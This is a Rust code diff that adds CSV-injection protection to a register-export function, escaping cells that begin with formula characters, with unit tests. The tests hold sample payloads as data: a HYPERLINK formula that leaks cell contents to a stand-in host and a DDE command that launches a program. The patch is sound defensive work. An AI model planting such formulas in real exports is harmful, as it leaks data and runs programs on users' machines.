@@ -247,7 +247,7 @@ pub fn due(events: &[Event], today: &str) -> Vec<BTreeMap<&'static str, String>>
 }
 
 /// Writes rows as CSV: UTF-8 with a byte-order mark and CRLF line ends, every field
-/// quoted as needed, in `columns` order.
+/// quoted as needed, in `columns` order, no field read as a formula.
 pub fn write_csv<W: Write>(
     mut out: W,
     columns: &[&str],
@@ -262,8 +262,55 @@ pub fn write_csv<W: Write>(
         w.write_record(
             columns
                 .iter()
-                .map(|c| r.get(c).map(String::as_str).unwrap_or("")),
+                .map(|c| not_a_formula(r.get(c).map(String::as_str).unwrap_or("")))
+                .map(|cell| cell.into_owned().into_bytes()),
         )?;
     }
     w.flush()
+}
+
+/// A cell as text a spreadsheet will not evaluate. Fields come from media received
+/// from outside (`Source-Organization`, `External-Identifier`, … of a hostile bag) and
+/// the register is opened in Excel: a cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is taken as a formula there (CSV injection, CWE-1236: `=HYPERLINK`
+/// leaking other cells, DDE `+cmd|…` running programs). As OWASP advises, such a cell
+/// gets a leading apostrophe, so Excel shows it as the text it is.
+pub fn not_a_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_evaluate_become_text() {
+        for (cell, want) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1)",
+                "'=HYPERLINK(\"http://x/?\"&A1)",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1)", "'@SUM(1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("ISOU-20261126-ABCDEFGH", "ISOU-20261126-ABCDEFGH"),
+            ("大阪府がん登録室", "大阪府がん登録室"),
+            ("", ""),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(not_a_formula(cell), want, "{cell:?}");
+        }
+        let mut row = BTreeMap::new();
+        row.insert("移送元", "=1+1".to_string());
+        row.insert("移送ID", "ISOU-1".to_string());
+        let mut out = Vec::new();
+        write_csv(&mut out, &["移送ID", "移送元"], &[row]).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(text, "\u{feff}移送ID,移送元\r\nISOU-1,'=1+1\r\n");
+    }
 }
